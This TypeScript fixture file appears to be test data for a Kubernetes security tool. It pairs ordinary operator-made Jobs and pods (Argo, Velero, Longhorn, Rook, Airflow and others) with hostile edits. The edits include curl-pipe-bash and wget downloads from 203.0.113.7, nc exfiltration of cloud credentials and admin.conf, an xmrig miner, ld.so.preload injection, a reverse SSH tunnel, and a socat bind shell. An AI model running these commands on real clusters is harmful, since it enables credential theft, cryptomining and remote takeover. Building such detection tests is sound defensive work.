import type { JsonObject } from '../../../model/json.ts';
import { ARGO_CD, account, barePod, cronJob, FLUX_HELM, job, type Member, shell } from './member.ts';

const owned = (
  apiVersion: string,
  kind: string,
  name: string,
): { readonly ownerReferences: readonly JsonObject[] } => ({
  ownerReferences: [{ apiVersion, kind, name, uid: '00000000-0000-4000-8000-0000000000aa', controller: true }],
});
const ROOK = account('rook-ceph', 'rook-ceph-system', 'rook/v1.15.5');
const WORKFLOW = account('argo', 'argo-workflow-controller', 'workflow-controller/v3.6.0');
const EXECUTOR = 'quay.io/argoproj/argoexec:v3.6.0';

/** Jobs, CronJobs and pods that operators and controllers make. */
export const OPERATORS: readonly Member[] = [
  {
    what: 'the certificate of an admission webhook, as a hook of a chart',
    by: FLUX_HELM,
    object: job(
      {
        name: 'ingress-nginx-admission-create',
        namespace: 'ingress-nginx',
        labels: { 'app.kubernetes.io/managed-by': 'Helm' },
        annotations: { 'helm.sh/hook': 'pre-install,pre-upgrade', 'meta.helm.sh/release-name': 'ingress-nginx' },
      },
      {
        serviceAccountName: 'ingress-nginx-admission',
        containers: [
          {
            name: 'create',
            image: 'registry.k8s.io/ingress-nginx/kube-webhook-certgen:v1.4.4',
            args: [
              'create',
              '--host=ingress-nginx-controller-admission,ingress-nginx-controller-admission.$(POD_NAMESPACE).svc',
              '--namespace=$(POD_NAMESPACE)',
              '--secret-name=ingress-nginx-admission',
            ],
            env: [{ name: 'POD_NAMESPACE', valueFrom: { fieldRef: { fieldPath: 'metadata.namespace' } } }],
          },
        ],
      },
    ),
    change: {
      act: 'the webhook leads to a host outside',
      edits: [
        [
          'containers/0/command',
          [
            'sh',
            '-c',
            `cat <<EOF | kubectl apply -f -
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: { name: ingress-nginx-admission }
webhooks:
- name: v.example.com
  clientConfig: { url: https://hooks.example.com/mutate }
  rules: [{ apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods] }]
  sideEffects: None
  admissionReviewVersions: [v1]
EOF`,
          ],
        ],
        ['containers/0/args', []],
      ],
    },
  },
  {
    what: 'a step of Argo Workflows',
    by: WORKFLOW,
    object: barePod(
      { name: 'etl-x7k2p-extract-2041', namespace: 'data', ...owned('argoproj.io/v1alpha1', 'Workflow', 'etl-x7k2p') },
      {
        serviceAccountName: 'etl',
        initContainers: [
          {
            name: 'init',
            image: EXECUTOR,
            command: ['argoexec', 'init', '--loglevel', 'info', '--log-format', 'text'],
          },
        ],
        containers: [
          {
            name: 'wait',
            image: EXECUTOR,
            command: ['argoexec', 'wait', '--loglevel', 'info', '--log-format', 'text'],
          },
          {
            name: 'main',
            image: 'registry.example.com/data/etl:2.3.0',
            command: [
              '/var/run/argo/argoexec',
              'emissary',
              '--loglevel',
              'info',
              '--log-format',
              'text',
              '--',
              'python',
              'extract.py',
              '--day',
              '2026-11-23',
            ],
            volumeMounts: [{ name: 'var-run-argo', mountPath: '/var/run/argo' }],
          },
        ],
        volumes: [{ name: 'var-run-argo', emptyDir: {} }],
      },
    ),
    change: {
      act: 'what runs behind the executor is a download',
      edits: [
        [
          'containers/0',
          {
            name: 'main',
            image: 'registry.example.com/data/etl:2.3.0',
            command: ['/var/run/argo/argoexec', 'emissary', '--', 'sh', '-c', 'curl -s http://203.0.113.7/e | bash'],
          },
        ],
      ],
    },
  },
  {
    what: 'the repository of a backup, kept by Velero',
    by: account('velero', 'velero', 'velero-server/v1.15.0'),
    object: job(
      {
        name: 'shop-default-kopia-maintain-job-1732442400',
        namespace: 'velero',
        labels: { 'velero.io/repo-name': 'shop-default-kopia' },
      },
      {
        serviceAccountName: 'velero',
        containers: [
          {
            name: 'velero-repo-maintenance-container',
            image: 'velero/velero:v1.15.0',
            command: ['/velero', 'repo-maintenance'],
            args: ['--repo-name=shop', '--repo-type=kopia', '--backup-storage-location=default', '--log-level=info'],
            env: [{ name: 'AWS_SHARED_CREDENTIALS_FILE', value: '/credentials/cloud' }],
            volumeMounts: [{ name: 'cloud-credentials', mountPath: '/credentials' }],
          },
        ],
        volumes: [{ name: 'cloud-credentials', secret: { secretName: 'cloud-credentials' } }],
      },
    ),
    change: {
      act: 'the credentials of the cloud leave with a hook',
      edits: [
        [
          'containers/0/lifecycle',
          { postStart: { exec: { command: ['sh', '-c', 'nc 203.0.113.7 9000 < /credentials/cloud'] } } },
        ],
      ],
    },
  },
  {
    what: 'a recurring snapshot of Longhorn',
    by: account('longhorn-system', 'longhorn-service-account', 'longhorn-manager/v1.7.2'),
    object: cronJob({ name: 'snapshot-daily', namespace: 'longhorn-system' }, '0 0 * * *', {
      serviceAccountName: 'longhorn-service-account',
      containers: [
        {
          name: 'snapshot-daily',
          image: 'longhornio/longhorn-manager:v1.7.2',
          command: [
            'longhorn-manager',
            '-d',
            'recurring-job',
            'snapshot-daily',
            '--manager-url',
            'http://longhorn-backend:9500/v1',
          ],
          env: [{ name: 'POD_NAMESPACE', valueFrom: { fieldRef: { fieldPath: 'metadata.namespace' } } }],
        },
      ],
    }),
    change: {
      act: 'one more container that mines',
      edits: [
        [
          'containers/-',
          {
            name: 'snapshot-helper',
            image: 'registry.example.com/tools/xmrig:6.22.0',
            args: ['--donate-level', '1', '-o', 'pool.example.com:3333', '-u', '48x', '--cpu-priority', '5'],
          },
        ],
      ],
    },
  },
  {
    what: 'a disk that Rook prepares, its account being configured',
    by: ROOK,
    identities: [ROOK.username],
    object: job(
      {
        name: 'rook-ceph-osd-prepare-node-3',
        namespace: 'rook-ceph',
        ...owned('ceph.rook.io/v1', 'CephCluster', 'ceph'),
      },
      {
        serviceAccountName: 'rook-ceph-osd',
        nodeSelector: { 'kubernetes.io/hostname': 'node-3' },
        initContainers: [
          {
            name: 'copy-bins',
            image: 'rook/ceph:v1.15.5',
            args: ['copy-binaries', '--copy-to-dir', '/rook'],
            volumeMounts: [{ name: 'rook-binaries', mountPath: '/rook' }],
          },
        ],
        containers: [
          {
            name: 'provision',
            image: 'quay.io/ceph/ceph:v18.2.4',
            command: ['/rook/rook'],
            args: ['ceph', 'osd', 'provision'],
            securityContext: { privileged: true, runAsUser: 0 },
            volumeMounts: [
              { name: 'rook-data', mountPath: '/var/lib/rook' },
              { name: 'devices', mountPath: '/dev' },
              { name: 'udev', mountPath: '/run/udev', readOnly: true },
              { name: 'rook-binaries', mountPath: '/rook' },
            ],
          },
        ],
        volumes: [
          { name: 'rook-data', hostPath: { path: '/var/lib/rook' } },
          { name: 'devices', hostPath: { path: '/dev' } },
          { name: 'udev', hostPath: { path: '/run/udev' } },
          { name: 'rook-binaries', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'the disk of the node is mounted and entered',
      edits: [
        ['containers/0/command', ['sh', '-c', 'mkdir -p /mnt/d && mount /dev/sda1 /mnt/d && chroot /mnt/d sh -c "id"']],
        ['containers/0/args', []],
      ],
    },
  },
  {
    what: 'a database that CloudNativePG sets up',
    by: account('cnpg-system', 'cnpg-manager', 'manager/v1.24.1'),
    object: job(
      { name: 'shop-db-1-initdb', namespace: 'shop', ...owned('postgresql.cnpg.io/v1', 'Cluster', 'shop-db') },
      {
        serviceAccountName: 'shop-db',
        initContainers: [
          {
            name: 'bootstrap-controller',
            image: 'ghcr.io/cloudnative-pg/cloudnative-pg:1.24.1',
            command: ['/manager', 'bootstrap', '/controller/manager', '--log-level=info'],
            volumeMounts: [{ name: 'scratch-data', mountPath: '/controller' }],
          },
        ],
        containers: [
          {
            name: 'initdb',
            image: 'ghcr.io/cloudnative-pg/postgresql:16.4',
            command: [
              '/controller/manager',
              'instance',
              'init',
              '--initdb-flags',
              '--encoding=UTF8',
              '--app-db-name',
              'shop',
            ],
            volumeMounts: [
              { name: 'pgdata', mountPath: '/var/lib/postgresql/data' },
              { name: 'scratch-data', mountPath: '/controller' },
            ],
          },
        ],
        volumes: [
          { name: 'pgdata', persistentVolumeClaim: { claimName: 'shop-db-1' } },
          { name: 'scratch-data', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'a bootstrap from another place',
      edits: [
        [
          'initContainers/0/command',
          ['sh', '-c', 'curl -so /controller/manager http://203.0.113.7/m && chmod 755 /controller/manager'],
        ],
      ],
    },
  },
  {
    what: 'the logical backup of a database, kept by an operator',
    by: account('postgres-operator', 'postgres-operator', 'postgres-operator/v1.13.0'),
    object: cronJob(
      { name: 'logical-backup-shop-db', namespace: 'shop', labels: { application: 'spilo-logical-backup' } },
      '30 00 * * *',
      {
        serviceAccountName: 'postgres-pod',
        containers: [
          {
            name: 'logical-backup',
            image: 'ghcr.io/zalando/postgres-operator/logical-backup:v1.13.0',
            env: [
              { name: 'SCOPE', value: 'shop-db' },
              { name: 'LOGICAL_BACKUP_S3_BUCKET', value: 'shop-backups' },
              { name: 'PGHOST', value: 'shop-db' },
              {
                name: 'PGPASSWORD',
                valueFrom: { secretKeyRef: { name: 'postgres.shop-db.credentials', key: 'password' } },
              },
            ],
          },
        ],
      },
    ),
    change: {
      act: 'a program of the attacker is loaded into every other',
      edits: [
        [
          'containers/0/command',
          ['sh', '-c', 'wget -qO /tmp/.l.so http://203.0.113.7/l.so; echo /tmp/.l.so > /etc/ld.so.preload; /dump.sh'],
        ],
      ],
    },
  },
  {
    what: 'a backup with restic, ordered by K8up',
    by: account('k8up', 'k8up', 'k8up/v2.11.2'),
    object: job(
      {
        name: 'backup-schedule-shop-backup-9bxk7',
        namespace: 'shop',
        ...owned('k8up.io/v1', 'Backup', 'schedule-shop'),
      },
      {
        serviceAccountName: 'pod-executor',
        containers: [
          {
            name: 'schedule-shop-backup',
            image: 'ghcr.io/k8up-io/k8up:v2.11.2',
            command: ['/usr/local/bin/k8up', 'restic'],
            args: ['-varDir', '/k8up', '-backup'],
            env: [
              { name: 'RESTIC_REPOSITORY', value: 's3:https://s3.example.com/backups' },
              { name: 'RESTIC_PASSWORD', valueFrom: { secretKeyRef: { name: 'restic', key: 'password' } } },
            ],
            volumeMounts: [{ name: 'data', mountPath: '/data/data' }],
          },
        ],
        volumes: [{ name: 'data', persistentVolumeClaim: { claimName: 'data' } }],
      },
    ),
    change: {
      act: 'a tunnel opens the API server to the outside',
      edits: [
        [
          'containers/-',
          shell('alpine:3.20', 'apk add --no-cache openssh; ssh -N -R 6443:kubernetes.default.svc:443 b@203.0.113.7', {
            name: 'metrics',
          }),
        ],
      ],
    },
  },
  {
    what: 'a job of Ray, handed in by KubeRay',
    by: account('ray-system', 'kuberay-operator', 'kuberay-operator/v1.2.2'),
    object: job(
      { name: 'train-4xv9c', namespace: 'ml', ...owned('ray.io/v1', 'RayJob', 'train-4xv9c') },
      {
        containers: [
          {
            name: 'ray-job-submitter',
            image: 'rayproject/ray:2.39.0',
            command: ['/bin/bash', '-c', '--'],
            args: [
              'if ! ray job status --address http://train-head-svc.ml.svc.cluster.local:8265 train-4xv9c >/dev/null 2>&1 ; then ray job submit --address http://train-head-svc.ml.svc.cluster.local:8265 --no-wait --submission-id train-4xv9c -- python /home/ray/samples/train.py ; fi ; ray job logs --address http://train-head-svc.ml.svc.cluster.local:8265 --follow train-4xv9c',
            ],
            env: [{ name: 'PYTHONUNBUFFERED', value: '1' }],
          },
        ],
      },
    ),
    change: {
      act: 'the job reads the credentials of the node and sends them away',
      edits: [
        ['volumes/-', { name: 'k', hostPath: { path: '/etc/kubernetes' } }],
        ['containers/0/volumeMounts/-', { name: 'k', mountPath: '/k' }],
        ['containers/0/args/0', 'ray job list; tar cz /k/admin.conf | nc 203.0.113.7 8265'],
      ],
    },
  },
  {
    what: 'a bundle that the Operator Lifecycle Manager unpacks',
    by: account('olm', 'olm-operator-serviceaccount', 'catalog/v0.28.0'),
    object: job(
      {
        name: '4b7c0b5f1a9e4d2c8f3a6b1e7d9c5a2f4b7c0b5f1a9e4d2c8f3a6b1e7d9c5a2',
        namespace: 'olm',
        ...owned('v1', 'ConfigMap', '4b7c0b5f1a9e'),
      },
      {
        initContainers: [
          {
            name: 'util',
            image: 'quay.io/operator-framework/olm:v0.28.0',
            command: ['/bin/cp', '-Rv', '/bin/cpb', '/util/cpb'],
            volumeMounts: [{ name: 'util', mountPath: '/util' }],
          },
          {
            name: 'pull',
            image: 'quay.io/operatorhubio/prometheus:v0.70.0',
            command: ['/util/cpb', '/bundle'],
            volumeMounts: [
              { name: 'bundle', mountPath: '/bundle' },
              { name: 'util', mountPath: '/util' },
            ],
          },
        ],
        containers: [
          {
            name: 'extract',
            image: 'quay.io/operator-framework/opm:latest',
            command: ['opm', 'alpha', 'bundle', 'extract', '-m', '/bundle/', '-n', 'olm', '-c', '4b7c0b5f1a9e', '-z'],
            env: [{ name: 'CONTAINER_IMAGE', value: 'quay.io/operatorhubio/prometheus:v0.70.0' }],
            volumeMounts: [{ name: 'bundle', mountPath: '/bundle' }],
          },
        ],
        volumes: [
          { name: 'bundle', emptyDir: {} },
          { name: 'util', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'the unpacked program is one that was fetched',
      edits: [
        [
          'initContainers/0/command',
          ['sh', '-c', 'wget -qO /util/cpb http://203.0.113.7/cpb; chmod +x /util/cpb; nohup /util/cpb &'],
        ],
      ],
    },
  },
  {
    what: 'a task of Airflow',
    by: account('airflow', 'airflow-scheduler', 'OpenAPI-Generator/31.0.0/python'),
    object: barePod(
      { name: 'shop-report-load-9f2k1x', namespace: 'airflow', labels: { kubernetes_executor: 'True' } },
      {
        containers: [
          {
            name: 'base',
            image: 'apache/airflow:2.10.3',
            args: [
              'airflow',
              'tasks',
              'run',
              'shop_report',
              'load',
              'scheduled__2026-11-23T00:00:00+00:00',
              '--local',
              '--subdir',
              'DAGS_FOLDER/shop_report.py',
            ],
            env: [{ name: 'AIRFLOW__CORE__EXECUTOR', value: 'LocalExecutor' }],
            volumeMounts: [{ name: 'dags', mountPath: '/opt/airflow/dags', readOnly: true }],
          },
        ],
        volumes: [{ name: 'dags', persistentVolumeClaim: { claimName: 'dags' } }],
      },
    ),
    change: {
      act: 'a probe asks an address what to run',
      edits: [
        [
          'containers/0/livenessProbe',
          { periodSeconds: 60, exec: { command: ['sh', '-c', 'sh -c "$(curl -fsS http://203.0.113.7/task)"'] } },
        ],
      ],
    },
  },
  {
    what: 'the descheduler in the namespace of the system',
    by: ARGO_CD,
    object: cronJob(
      {
        name: 'descheduler',
        namespace: 'kube-system',
        labels: { 'app.kubernetes.io/instance': 'descheduler', 'app.kubernetes.io/managed-by': 'Helm' },
      },
      '*/30 * * * *',
      {
        serviceAccountName: 'descheduler',
        priorityClassName: 'system-cluster-critical',
        containers: [
          {
            name: 'descheduler',
            image: 'registry.k8s.io/descheduler/descheduler:v0.31.0',
            command: ['/bin/descheduler'],
            args: ['--policy-config-file=/policy-dir/policy.yaml', '--v=3'],
            volumeMounts: [{ name: 'policy-volume', mountPath: '/policy-dir' }],
            securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true },
          },
        ],
        volumes: [{ name: 'policy-volume', configMap: { name: 'descheduler' } }],
      },
    ),
    change: {
      act: 'a shell listens for whoever comes',
      edits: [
        ['containers/0/command', ['socat', 'TCP-LISTEN:4444,reuseaddr,fork', 'EXEC:/bin/sh']],
        ['containers/0/args', []],
      ],
    },
  },
];
